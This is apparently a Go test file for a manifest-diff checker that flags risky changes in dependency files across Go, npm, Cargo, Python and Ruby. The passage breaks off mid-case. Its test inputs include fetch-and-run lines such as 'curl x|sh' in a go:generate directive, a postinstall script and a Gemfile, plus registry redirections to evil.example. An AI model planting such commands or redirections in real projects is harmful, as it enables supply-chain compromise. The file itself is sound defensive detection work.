package manifest

import (
	"errors"
	"strings"
	"testing"
)

type diffCase struct {
	name   string
	path   string
	before string // "" with isNew: nil
	after  string
	isNew  bool
	want   []string // "kind key"
	err    bool
}

func got(cs []Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Kind+" "+c.Key)
	}
	return out
}

func runDiffCases(t *testing.T, cases []diffCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var b []byte
			if !c.isNew {
				b = []byte(c.before)
			}
			cs, err := Diff(c.path, b, []byte(c.after))
			if c.err {
				if err == nil {
					t.Fatalf("Diff(%s): want an error, got %v", c.path, cs)
				}
				return
			}
			if err != nil {
				t.Fatalf("Diff(%s): %v", c.path, err)
			}
			g := got(cs)
			if strings.Join(g, "\n") != strings.Join(c.want, "\n") {
				t.Fatalf("Diff(%s):\n got %q\nwant %q\n%v", c.path, g, c.want, cs)
			}
			for _, ch := range cs {
				if ch.Detail == "" || len(ch.Detail) > 400 || strings.ContainsAny(ch.Detail+ch.Key, "\n\r") {
					t.Errorf("bad change %+v", ch)
				}
			}
		})
	}
}

const goModA = `module example.com/m

go 1.22

require (
	golang.org/x/net v0.20.0
	golang.org/x/text v0.14.0
)

replace golang.org/x/text => golang.org/x/text v0.13.0
`

func TestDiff_Go(t *testing.T) {
	runDiffCases(t, []diffCase{
		{name: "require bump", path: "go.mod", before: goModA, after: strings.Replace(goModA, "v0.20.0", "v0.21.0", 1)},
		{name: "new require", path: "go.mod", before: goModA, after: strings.Replace(goModA, ")\n", "\tgithub.com/x/y v1.0.0\n)\n", 1)},
		{name: "replace bump same target", path: "go.mod", before: goModA, after: strings.Replace(goModA, "text v0.13.0", "text v0.14.1", 1)},
		{name: "replace to fork", path: "go.mod", before: goModA, after: strings.Replace(goModA, "=> golang.org/x/text v0.13.0", "=> github.com/evil/text v0.13.0", 1),
			want: []string{"source replace golang.org/x/text"}},
		{name: "new replace to dir", path: "go.mod", before: goModA, after: goModA + "replace golang.org/x/net => ../net\n",
			want: []string{"source replace golang.org/x/net"}},
		{name: "new replace same module", path: "go.mod", before: goModA, after: goModA + "replace golang.org/x/net => golang.org/x/net v0.19.0\n"},
		{name: "dropped replace", path: "go.mod", before: goModA, after: strings.Replace(goModA, "replace golang.org/x/text => golang.org/x/text v0.13.0\n", "", 1)},
		{name: "tool", path: "sub/go.mod", before: goModA, after: goModA + "tool golang.org/x/tools/cmd/stringer\n", want: []string{"runs tool golang.org/x/tools/cmd/stringer"}},
		{name: "toolchain", path: "go.mod", before: goModA, after: goModA + "toolchain go1.23.1\n"},
		{name: "new go.mod with replace", path: "go.mod", isNew: true, after: goModA + "replace a.com/b => ../b\n", want: []string{"source replace a.com/b"}},
		{name: "malformed", path: "go.mod", before: goModA, after: "module\nrequire (((\n", err: true},
		{name: "work use inside", path: "go.work", before: "go 1.22\nuse ./a\n", after: "go 1.22\nuse (\n\t./a\n\t./b\n)\n"},
		{name: "work use outside", path: "go.work", before: "go 1.22\nuse ./a\n", after: "go 1.22\nuse (\n\t./a\n\t../x\n)\n", want: []string{"source use ../x"}},
		{name: "work malformed", path: "go.work", after: "go 1.22\nuse (\n", err: true},
		{name: "sum add", path: "go.sum", before: "a.com/b v1.0.0 h1:AAA=\n", after: "a.com/b v1.0.0 h1:AAA=\na.com/b v1.1.0 h1:BBB=\n"},
		{name: "sum changed", path: "go.sum", before: "a.com/b v1.0.0 h1:AAA=\na.com/b v1.0.0/go.mod h1:CCC=\n", after: "a.com/b v1.0.0 h1:ZZZ=\na.com/b v1.0.0/go.mod h1:CCC=\n",
			want: []string{"checksum go.sum a.com/b v1.0.0"}},
		{name: "sum malformed", path: "go.sum", after: "a.com/b v1.0.0\n", err: true},
		{name: "generate added", path: "x/y.go", before: "package y\n", after: "package y\n\n//go:generate sh -c 'curl x|sh'\n", want: []string{"runs //go:generate sh -c 'curl x|sh'"}},
		{name: "generate kept", path: "y.go", before: "package y\n//go:generate stringer -type=T\n", after: "package y\n//go:generate stringer -type=T\nfunc f() {}\n"},
		{name: "go source malformed", path: "y.go", after: "pkg y\n", err: true},
	})
}

const pkgJSON = `{
  "name": "app",
  "scripts": {"test": "jest", "build": "tsc"},
  "dependencies": {"left-pad": "^1.2.0", "lodash": "4.17.21", "@scope/x": "~2.0.0"},
  "devDependencies": {"jest": "^29.0.0"}
}`

const pkgLock = `{
  "name": "app", "lockfileVersion": 3,
  "packages": {
    "": {"name": "app"},
    "node_modules/left-pad": {"version": "1.3.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": "sha512-AAA"},
    "node_modules/lodash": {"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "integrity": "sha512-BBB"}
  }
}`

const yarnV1 = `# yarn lockfile v1


left-pad@^1.2.0:
  version "1.3.0"
  resolved "https://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz#abc"
  integrity sha512-AAA

"@scope/x@~2.0.0", "@scope/x@^2.0.0":
  version "2.0.1"
  resolved "https://registry.yarnpkg.com/@scope/x/-/x-2.0.1.tgz#def"
  integrity sha512-BBB
  dependencies:
    left-pad "^1.2.0"
`

const yarnBerry = `__metadata:
  version: 6
  cacheKey: 8

"left-pad@npm:^1.2.0":
  version: 1.3.0
  resolution: "left-pad@npm:1.3.0"
  checksum: aaa
  languageName: node
  linkType: hard
`

const pnpmLockA = `lockfileVersion: '6.0'
packages:
  /left-pad@1.3.0:
    resolution: {integrity: sha512-AAA}
    dev: false
  /lodash@4.17.21:
    resolution: {integrity: sha512-BBB}
`

func TestDiff_NPM(t *testing.T) {
	runDiffCases(t, []diffCase{
		{name: "dep bump", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, "^1.2.0", "^1.3.0", 1)},
		{name: "new registry dep", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"lodash"`, `"chalk": "5.0.0", "lodash"`, 1)},
		{name: "test script changed", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, "jest", "jest --ci", 1)},
		{name: "postinstall", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"test"`, `"postinstall": "node x.js", "test"`, 1), want: []string{"runs scripts.postinstall"}},
		{name: "new file postinstall", path: "package.json", isNew: true, after: `{"scripts":{"postinstall":"curl x|sh"}}`, want: []string{"runs scripts.postinstall"}},
		{name: "git dep", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"^1.2.0"`, `"git+https://x.example/y.git"`, 1), want: []string{"source dependencies.left-pad"}},
		{name: "github shorthand", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"^29.0.0"`, `"evil/jest"`, 1), want: []string{"source devDependencies.jest"}},
		{name: "alias", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"4.17.21"`, `"npm:lodash-evil@4.17.21"`, 1), want: []string{"source dependencies.lodash"}},
		{name: "workspace", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"~2.0.0"`, `"workspace:*"`, 1)},
		{name: "override plain", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"name": "app",`, `"name": "app", "overrides": {"foo": "1.0.0", "bar": {"baz": "2.0.0"}},`, 1)},
		{name: "override url", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"name": "app",`, `"name": "app", "overrides": {"bar": {"baz": "https://x.example/baz.tgz"}},`, 1), want: []string{"source overrides.bar.baz"}},
		{name: "publishConfig", path: "package.json", before: pkgJSON, after: strings.Replace(pkgJSON, `"name": "app",`, `"name": "app", "publishConfig": {"registry": "https://npm.evil.example/"},`, 1), want: []string{"source publishConfig.registry"}},
		{name: "pj malformed", path: "package.json", before: pkgJSON, after: `{"name": `, err: true},
		{name: "pj not object", path: "package.json", after: `[1]`, err: true},

		{name: "lock bump", path: "package-lock.json", before: pkgLock, after: strings.NewReplacer("1.3.0", "1.3.1", "sha512-AAA", "sha512-CCC").Replace(pkgLock)},
		{name: "lock host", path: "package-lock.json", before: pkgLock, after: strings.Replace(pkgLock, "https://registry.npmjs.org/lodash", "https://npm.evil.example/lodash", 1), want: []string{"source node_modules/lodash"}},
		{name: "lock integrity", path: "npm-shrinkwrap.json", before: pkgLock, after: strings.Replace(pkgLock, "sha512-BBB", "sha512-EVIL", 1), want: []string{"checksum node_modules/lodash"}},
		{name: "lock new git", path: "package-lock.json", before: pkgLock, after: strings.Replace(pkgLock, `"": {"name": "app"},`, `"": {"name": "app"}, "node_modules/x": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/e/x.git#abc"},`, 1), want: []string{"source node_modules/x"}},
		{name: "lock install script", path: "package-lock.json", before: pkgLock, after: strings.Replace(pkgLock, `"integrity": "sha512-AAA"`, `"integrity": "sha512-AAA", "hasInstallScript": true`, 1), want: []string{"runs node_modules/left-pad"}},
		{name: "lock host already used", path: "package-lock.json", before: strings.Replace(pkgLock, "https://registry.npmjs.org/lodash", "https://npm.corp.example/lodash", 1),
			after: strings.Replace(strings.Replace(pkgLock, "https://registry.npmjs.org/lodash", "https://npm.corp.example/lodash", 1), `"": {"name": "app"},`, `"": {"name": "app"}, "node_modules/y": {"version": "1.0.0", "resolved": "https://npm.corp.example/y/-/y-1.0.0.tgz"},`, 1)},
		{name: "lock new file install script", path: "package-lock.json", isNew: true, after: strings.Replace(pkgLock, `"integrity": "sha512-AAA"`, `"integrity": "sha512-AAA", "hasInstallScript": true`, 1), want: []string{"runs node_modules/left-pad"}},
		{name: "bom", path: "package.json", before: "\xef\xbb\xbf" + pkgJSON, after: "\xef\xbb\xbf" + pkgJSON},
		{name: "lock v1", path: "package-lock.json", before: `{"lockfileVersion":1,"dependencies":{"a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha1-x","dependencies":{"b":{"version":"2.0.0","resolved":"https://registry.npmjs.org/b/-/b-2.0.0.tgz"}}}}}`,
			after: `{"lockfileVersion":1,"dependencies":{"a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha1-x","dependencies":{"b":{"version":"2.0.0","resolved":"http://10.0.0.1/b-2.0.0.tgz"}}}}}`,
			want:  []string{"source node_modules/a/node_modules/b"}},
		{name: "lock malformed", path: "package-lock.json", after: `{"packages": 3}`, err: true},

		{name: "yarn bump", path: "yarn.lock", before: yarnV1, after: strings.NewReplacer(`version "1.3.0"`, `version "1.3.1"`, "1.3.0.tgz", "1.3.1.tgz").Replace(yarnV1)},
		{name: "yarn host", path: "yarn.lock", before: yarnV1, after: strings.Replace(yarnV1, "https://registry.yarnpkg.com/left-pad", "https://evil.example/left-pad", 1), want: []string{"source left-pad@1.3.0"}},
		{name: "yarn integrity", path: "yarn.lock", before: yarnV1, after: strings.Replace(yarnV1, "sha512-BBB", "sha512-ZZZ", 1), want: []string{"checksum @scope/x@2.0.1"}},
		{name: "yarn malformed", path: "yarn.lock", after: "left-pad@^1.0.0\n  version \"1\"\n", err: true},
		{name: "berry bump", path: "yarn.lock", before: yarnBerry, after: strings.NewReplacer("1.3.0", "1.3.1", "checksum: aaa", "checksum: bbb").Replace(yarnBerry)},
		{name: "berry builtin patch", path: "yarn.lock", isNew: true, after: yarnBerry + "\n\"resolve@patch:resolve@^1.20.0#~builtin<compat/resolve>\":\n  version: 1.22.1\n  resolution: \"resolve@patch:resolve@npm%3A1.22.1#~builtin<compat/resolve>::version=1.22.1&hash=07638b\"\n  checksum: ccc\n"},
		{name: "berry custom patch", path: "yarn.lock", before: yarnBerry, after: yarnBerry + "\n\"x@patch:x@npm%3A1.0.0#./.yarn/patches/x.patch::locator=app%40workspace%3A.\":\n  version: 1.0.0\n  resolution: \"x@patch:x@npm%3A1.0.0#./.yarn/patches/x.patch::locator=app%40workspace%3A.\"\n", want: []string{"source x@1.0.0"}},
		{name: "berry git", path: "yarn.lock", before: yarnBerry, after: strings.Replace(yarnBerry, `"left-pad@npm:1.3.0"`, `"left-pad@https://github.com/e/left-pad.git#commit=abc"`, 1), want: []string{"source left-pad@1.3.0"}},

		{name: "pnpm bump", path: "pnpm-lock.yaml", before: pnpmLockA, after: strings.NewReplacer("/left-pad@1.3.0", "/left-pad@1.3.1", "sha512-AAA", "sha512-CCC").Replace(pnpmLockA)},
		{name: "pnpm tarball", path: "pnpm-lock.yaml", before: pnpmLockA, after: strings.Replace(pnpmLockA, "{integrity: sha512-AAA}", "{integrity: sha512-AAA, tarball: https://evil.example/lp.tgz}", 1), want: []string{"source /left-pad@1.3.0"}},
		{name: "pnpm integrity", path: "pnpm-lock.yaml", before: pnpmLockA, after: strings.Replace(pnpmLockA, "sha512-BBB", "sha512-XXX", 1), want: []string{"checksum /lodash@4.17.21"}},
		{name: "pnpm malformed", path: "pnpm-lock.yaml", after: "packages: [\n", err: true},

		{name: "npmrc same registry", path: ".npmrc", before: "registry=https://registry.npmjs.org/\n", after: "registry=https://registry.npmjs.org/\nsave-exact=true\n"},
		{name: "npmrc registry", path: "a/.npmrc", before: "save-exact=true\n", after: "save-exact=true\n@corp:registry=https://npm.evil.example/\nstrict-ssl=false\n", want: []string{"checksum strict-ssl", "source @corp:registry"}},
		{name: "npmrc malformed", path: ".npmrc", after: "registry\n", err: true},
		{name: "yarnrc.yml", path: ".yarnrc.yml", before: "nodeLinker: node-modules\n", after: "nodeLinker: node-modules\nnpmRegistryServer: https://evil.example\nyarnPath: .yarn/releases/evil.cjs\n", want: []string{"runs yarnPath", "source npmRegistryServer"}},
		{name: "yarnrc.yml benign", path: ".yarnrc.yml", before: "nodeLinker: node-modules\n", after: "nodeLinker: pnp\nnpmRegistryServer: https://registry.yarnpkg.com\n"},
		{name: "yarnrc.yml malformed", path: ".yarnrc.yml", after: "a: [\n", err: true},
		{name: "yarnrc v1", path: ".yarnrc", before: "", after: "registry \"https://evil.example\"\n", want: []string{"source registry"}},
	})
}

const cargoToml = `[package]
name = "app"
version = "0.1.0"

[dependencies]
serde = "1.0"
tokio = { version = "1", features = ["full"] }
mine = { git = "https://github.com/me/mine", rev = "abc" }

[target.'cfg(unix)'.dependencies]
libc = "0.2"
`

const cargoLockA = `version = 3

[[package]]
name = "serde"
version = "1.0.1"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "aaa"

[[package]]
name = "app"
version = "0.1.0"
`

func TestDiff_Cargo(t *testing.T) {
	runDiffCases(t, []diffCase{
		{name: "bump", path: "Cargo.toml", before: cargoToml, after: strings.Replace(cargoToml, `serde = "1.0"`, `serde = "1.1"`, 1)},
		{name: "git rev bump", path: "Cargo.toml", before: cargoToml, after: strings.Replace(cargoToml, `rev = "abc"`, `rev = "def"`, 1)},
		{name: "git", path: "Cargo.toml", before: cargoToml, after: strings.Replace(cargoToml, `libc = "0.2"`, `libc = { git = "https://evil.example/libc" }`, 1), want: []string{"source target.cfg(unix).dependencies.libc"}},
		{name: "git moved", path: "Cargo.toml", before: cargoToml, after: strings.Replace(cargoToml, "github.com/me/mine", "evil.example/mine", 1), want: []string{"source dependencies.mine"}},
		{name: "patch", path: "Cargo.toml", before: cargoToml, after: cargoToml + "\n[patch.crates-io]\nserde = { path = \"../serde\" }\n", want: []string{"source patch.crates-io.serde"}},
		{name: "build script", path: "Cargo.toml", before: cargoToml, after: strings.Replace(cargoToml, `version = "0.1.0"`, "version = \"0.1.0\"\nbuild = \"gen.rs\"", 1), want: []string{"runs package.build"}},
		{name: "proc-macro", path: "Cargo.toml", before: cargoToml, after: cargoToml + "\n[lib]\nproc-macro = true\n", want: []string{"runs lib.proc-macro"}},
		{name: "malformed", path: "Cargo.toml", after: "[dependencies\n", err: true},
		{name: "lock bump", path: "Cargo.lock", before: cargoLockA, after: strings.NewReplacer("1.0.1", "1.0.2", `"aaa"`, `"bbb"`).Replace(cargoLockA)},
		{name: "lock source", path: "Cargo.lock", before: cargoLockA, after: strings.Replace(cargoLockA, "registry+https://github.com/rust-lang/crates.io-index", "git+https://evil.example/serde#abc", 1), want: []string{"source serde@1.0.1"}},
		{name: "lock checksum", path: "Cargo.lock", before: cargoLockA, after: strings.Replace(cargoLockA, `"aaa"`, `"zzz"`, 1), want: []string{"checksum serde@1.0.1"}},
		{name: "lock malformed", path: "Cargo.lock", after: "[[package]\n", err: true},
		{name: "config benign", path: ".cargo/config.toml", before: "[net]\ngit-fetch-with-cli = true\n", after: "[net]\ngit-fetch-with-cli = false\n[alias]\nb = \"build\"\n"},
		{name: "config source", path: ".cargo/config.toml", before: "", after: "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"https://evil.example/index\"\n[build]\nrustc-wrapper = \"/tmp/w\"\n",
			want: []string{"runs build.rustc-wrapper", "source source.crates-io.replace-with", "source source.evil.registry"}},
		{name: "config old name", path: "x/.cargo/config", before: "", after: "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/ld\"\n", want: []string{"runs target.x86_64-unknown-linux-gnu.linker"}},
		{name: "config malformed", path: ".cargo/config.toml", after: "[source\n", err: true},
		{name: "build.rs", path: "build.rs", before: "fn main() {}\n", after: "fn main() { std::process::Command::new(\"sh\"); }\n", want: []string{"runs build.rs"}},
		{name: "build.rs same", path: "build.rs", before: "fn main() {}\n", after: "fn main() {}\n"},
		{name: "build.rs binary", path: "build.rs", after: "\x00\x01", err: true},
	})
}

const pyproject = `[project]
name = "app"
version = "1.0"
dependencies = ["requests>=2.31", "rich[jupyter]==13.0 ; python_version>'3.8'"]

[project.optional-dependencies]
dev = ["pytest>=7"]

[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[tool.poetry.dependencies]
python = "^3.10"
flask = "^2.0"

[tool.uv.sources]
mylib = { workspace = true }
`

func TestDiff_Python(t *testing.T) {
	req := "requests==2.31.0\n# comment\nflask>=2.0 ; python_version > '3.8'\n-r other.txt\nnumpy==1.26.0 \\\n    --hash=sha256:aaa \\\n    --hash=sha256:bbb\n"
	runDiffCases(t, []diffCase{
		{name: "req bump", path: "requirements.txt", before: req, after: strings.Replace(req, "2.31.0", "2.32.0", 1)},
		{name: "req new pkg", path: "requirements-dev.txt", before: req, after: req + "black==24.1\n"},
		{name: "req index", path: "requirements.txt", before: req, after: "--extra-index-url https://evil.example/simple\n" + req, want: []string{"source --extra-index-url https://evil.example/simple"}},
		{name: "req default index", path: "requirements.txt", before: req, after: "-i https://pypi.org/simple\n" + req},
		{name: "req vcs", path: "requirements.txt", before: req, after: strings.Replace(req, "requests==2.31.0", "requests @ git+https://evil.example/requests.git", 1), want: []string{"source requirement requests"}},
		{name: "req bare url", path: "constraints.txt", before: "", after: "git+https://evil.example/x.git#egg=xpkg\n", want: []string{"source requirement xpkg"}},
		{name: "req hash", path: "requirements.txt", before: req, after: strings.Replace(req, "sha256:bbb", "sha256:ccc", 1), want: []string{"checksum hash numpy==1.26.0"}},
		{name: "req in dir", path: "requirements/base.in", before: "", after: "./local\n-e .\n", want: []string{"source requirement ./local"}},
		{name: "req editable vcs", path: "requirements.txt", before: "", after: "-e git+https://e.example/x.git#egg=x\n", want: []string{"source requirement x"}},
		{name: "req malformed", path: "requirements.txt", after: "requests[security\n", err: true},

		{name: "pyproject bump", path: "pyproject.toml", before: pyproject, after: strings.NewReplacer("requests>=2.31", "requests>=2.32", `flask = "^2.0"`, `flask = "^2.1"`).Replace(pyproject)},
		{name: "pyproject url dep", path: "pyproject.toml", before: pyproject, after: strings.Replace(pyproject, `"requests>=2.31"`, `"requests @ https://evil.example/requests.whl"`, 1), want: []string{"source project.dependencies requests"}},
		{name: "pyproject poetry git", path: "pyproject.toml", before: pyproject, after: strings.Replace(pyproject, `flask = "^2.0"`, `flask = { git = "https://evil.example/flask.git" }`, 1), want: []string{"source tool.poetry.dependencies.flask"}},
		{name: "pyproject poetry source", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[[tool.poetry.source]]\nname = \"evil\"\nurl = \"https://evil.example/simple\"\n", want: []string{"source [[tool.poetry.source]] evil"}},
		{name: "pyproject uv index", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"https://evil.example/simple\"\n", want: []string{"source [[tool.uv.index]] corp"}},
		{name: "pyproject uv source", path: "pyproject.toml", before: pyproject, after: strings.Replace(pyproject, "mylib = { workspace = true }", "mylib = { git = \"https://evil.example/mylib\" }", 1), want: []string{"source tool.uv.sources.mylib"}},
		{name: "pyproject backend", path: "pyproject.toml", before: pyproject, after: strings.Replace(pyproject, `"setuptools.build_meta"`, `"evil_backend"`, 1), want: []string{"runs build-system.build-backend"}},
		{name: "pyproject build requires", path: "pyproject.toml", before: pyproject, after: strings.Replace(pyproject, `requires = ["setuptools>=61"]`, `requires = ["setuptools>=68", "evilhook"]`, 1), want: []string{"runs build-system.requires evilhook"}},
		{name: "pyproject hatch hook", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n", want: []string{"runs tool.hatch.build.hooks.custom"}},
		// rules 19: a plugin pytest loads on every run, declared by the package or named in addopts
		{name: "pyproject pytest plugin", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[project.entry-points.pytest11]\nfast = \"app._fast\"\n", want: []string{"runs project.entry-points.pytest11.fast"}},
		{name: "pyproject pytest addopts plugin", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[tool.pytest.ini_options]\naddopts = \"-q -p app._fast\"\n", want: []string{"runs tool.pytest.ini_options.addopts"}},
		{name: "pyproject pytest addopts plugin off", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[tool.pytest.ini_options]\naddopts = \"-q -p no:cacheprovider\"\n"},
		{name: "pyproject console script", path: "pyproject.toml", before: pyproject, after: pyproject + "\n[project.entry-points.console_scripts]\nx = \"app.cli:main\"\n"},
		{name: "pyproject malformed", path: "pyproject.toml", after: "[project\n", err: true},

		{name: "pipfile bump", path: "Pipfile", before: "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n\n[packages]\nrequests = \"==2.31\"\n", after: "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n\n[packages]\nrequests = \"==2.32\"\n"},
		{name: "pipfile new default", path: "Pipfile", isNew: true, after: "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n\n[packages]\nrequests = \"*\"\n"},
		{name: "pipfile source", path: "Pipfile", before: "[packages]\nrequests = \"*\"\n", after: "[[source]]\nname = \"evil\"\nurl = \"https://evil.example/simple\"\n\n[packages]\nrequests = {git = \"https://evil.example/r.git\"}\n", want: []string{"source [[source]] evil", "source packages.requests"}},
		{name: "pipfile index pypi", path: "Pipfile", before: "[packages]\nrequests = \"*\"\n", after: "[packages]\nrequests = {version = \"*\", index = \"pypi\"}\n"},
		{name: "pipfile malformed", path: "Pipfile", after: "[packages\n", err: true},

		{name: "pipfile.lock hash", path: "Pipfile.lock", before: `{"_meta":{"sources":[{"name":"pypi","url":"https://pypi.org/simple","verify_ssl":true}]},"default":{"requests":{"version":"==2.31.0","hashes":["sha256:a"]}}}`,
			after: `{"_meta":{"sources":[{"name":"pypi","url":"https://pypi.org/simple","verify_ssl":true}]},"default":{"requests":{"version":"==2.31.0","hashes":["sha256:b"]}}}`, want: []string{"checksum default.requests"}},
		{name: "pipfile.lock bump", path: "Pipfile.lock", before: `{"default":{"requests":{"version":"==2.31.0","hashes":["sha256:a"]}}}`, after: `{"default":{"requests":{"version":"==2.32.0","hashes":["sha256:b"]}}}`},
		{name: "pipfile.lock malformed", path: "Pipfile.lock", after: `{`, err: true},

		{name: "poetry.lock bump", path: "poetry.lock", before: "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\nfiles = [{file = \"r.whl\", hash = \"sha256:a\"}]\n", after: "[[package]]\nname = \"requests\"\nversion = \"2.32.0\"\nfiles = [{file = \"r.whl\", hash = \"sha256:b\"}]\n"},
		{name: "poetry.lock git", path: "poetry.lock", before: "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\n", after: "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\n[package.source]\ntype = \"git\"\nurl = \"https://evil.example/r.git\"\n", want: []string{"source requests@2.31.0"}},
		{name: "poetry.lock malformed", path: "poetry.lock", after: "[[package]\n", err: true},
		{name: "uv.lock bump", path: "uv.lock", before: "version = 1\n[[package]]\nname = \"idna\"\nversion = \"3.6\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"u\", hash = \"sha256:a\" }\n", after: "version = 1\n[[package]]\nname = \"idna\"\nversion = \"3.7\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"u\", hash = \"sha256:b\" }\n"},
		{name: "uv.lock new workspace", path: "uv.lock", isNew: true, after: "version = 1\n[[package]]\nname = \"app\"\nversion = \"1.0\"\nsource = { editable = \".\" }\n[[package]]\nname = \"lib\"\nversion = \"1.0\"\nsource = { editable = \"packages/lib\" }\n[[package]]\nname = \"out\"\nversion = \"1.0\"\nsource = { directory = \"../out\" }\n", want: []string{"source out@1.0"}},
		{name: "uv.lock registry", path: "uv.lock", before: "version = 1\n[[package]]\nname = \"idna\"\nversion = \"3.6\"\nsource = { registry = \"https://pypi.org/simple\" }\n", after: "version = 1\n[[package]]\nname = \"idna\"\nversion = \"3.6\"\nsource = { registry = \"https://evil.example/simple\" }\n", want: []string{"source idna@3.6"}},
		{name: "uv.lock malformed", path: "uv.lock", after: "[[package]\n", err: true},

		{name: "setup.cfg bump", path: "setup.cfg", before: "[metadata]\nname = x\n\n[options]\ninstall_requires =\n    requests>=2.0\n", after: "[metadata]\nname = x\n\n[options]\ninstall_requires =\n    requests>=2.1\n    flask\n"},
		{name: "setup.cfg url", path: "setup.cfg", before: "[options]\ninstall_requires =\n    requests>=2.0\n", after: "[options]\ninstall_requires =\n    requests @ https://evil.example/r.whl\n[easy_install]\nindex_url = https://evil.example/simple\n", want: []string{"source easy_install.index_url", "source options.install_requires requests"}},
		{name: "setup.cfg malformed", path: "setup.cfg", after: "[options\n", err: true},
		{name: "setup.py", path: "setup.py", isNew: true, after: "from setuptools import setup\nsetup()\n", want: []string{"runs setup.py"}},
		{name: "conftest", path: "tests/conftest.py", before: "", after: "import os\n", want: []string{"runs conftest.py"}},
		{name: "pth", path: "site/evil.pth", isNew: true, after: "import os; os.system('x')\n", want: []string{"runs evil.pth"}},

		{name: "pip.conf", path: "pip.conf", before: "[global]\ntimeout = 60\n", after: "[global]\ntimeout = 60\nindex-url = https://evil.example/simple\n", want: []string{"source global.index-url"}},
		{name: "pip.conf benign", path: "pip.ini", before: "[global]\ntimeout = 60\n", after: "[global]\ntimeout = 30\nindex-url = https://pypi.org/simple\n"},
		{name: "pip.conf malformed", path: "pip.conf", after: "[global\n", err: true},
		{name: "pypirc", path: ".pypirc", before: "[pypi]\nusername = __token__\n", after: "[pypi]\nusername = __token__\nrepository = https://evil.example/legacy/\n", want: []string{"source pypi.repository"}},
	})
}

const gemfile = `source "https://rubygems.org"

ruby "3.2.0"

gem "rails", "~> 7.0"
gem "pg", ">= 1.1",
  require: false

group :development, :test do
  gem "rspec"
end
`

const gemLock = `GEM
  remote: https://rubygems.org/
  specs:
    rails (7.0.1)

PLATFORMS
  ruby

DEPENDENCIES
  rails (~> 7.0)

CHECKSUMS
  rails (7.0.1) sha256=aaa

BUNDLED WITH
   2.5.3
`

func TestDiff_Ruby(t *testing.T) {
	runDiffCases(t, []diffCase{
		{name: "bump", path: "Gemfile", before: gemfile, after: strings.Replace(gemfile, "~> 7.0", "~> 7.1", 1)},
		{name: "git gem", path: "Gemfile", before: gemfile, after: strings.Replace(gemfile, `gem "rspec"`, `gem "rspec", github: "evil/rspec"`, 1), want: []string{"source gem rspec"}},
		{name: "source", path: "Gemfile", before: gemfile, after: strings.Replace(gemfile, "https://rubygems.org", "https://gems.evil.example", 1), want: []string{"source source https://gems.evil.example"}},
		{name: "code", path: "Gemfile", before: gemfile, after: gemfile + "system('curl x | sh')\n", want: []string{"runs code: system('curl x | sh')"}},
		{name: "malformed", path: "Gemfile", after: "gem \"rails\n", err: true},
		{name: "lock bump", path: "Gemfile.lock", before: gemLock, after: strings.NewReplacer("7.0.1", "7.0.2", "sha256=aaa", "sha256=bbb").Replace(gemLock)},
		{name: "lock git", path: "Gemfile.lock", before: gemLock, after: "GIT\n  remote: https://evil.example/rails.git\n  revision: abc\n  specs:\n    rails (7.0.1)\n\n" + gemLock, want: []string{"source GIT remote https://evil.example/rails.git"}},
		{name: "lock checksum", path: "Gemfile.lock", before: gemLock, after: strings.Replace(gemLock, "sha256=aaa", "sha256=zzz", 1), want: []string{"checksum checksum rails (7.0.1)"}},
		{name: "lock malformed", path: "Gemfile.lock", after: "gem stuff\n", err: true},
		{name: "gemrc", path: ".gemrc", before: "---\n:sources:\n- https://rubygems.org/\n", after: "---\n:sources:\n- https://rubygems.org/\n- https://evil.example/\n", want: []string{"source :sources: https://evil.example/"}},
		{name: "gemrc malformed", path: ".gemrc", after: ":sources: [\n", err: true},
		{name: "bundle config", path: ".bundle/config", before: "---\nBUNDLE_PATH: \"vendor\"\n", after: "---\nBUNDLE_PATH: \"vendor/bundle\"\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"https://evil.example\"\n", want: []string{"source BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/"}},
		{name: "pre-commit", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/psf/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n",
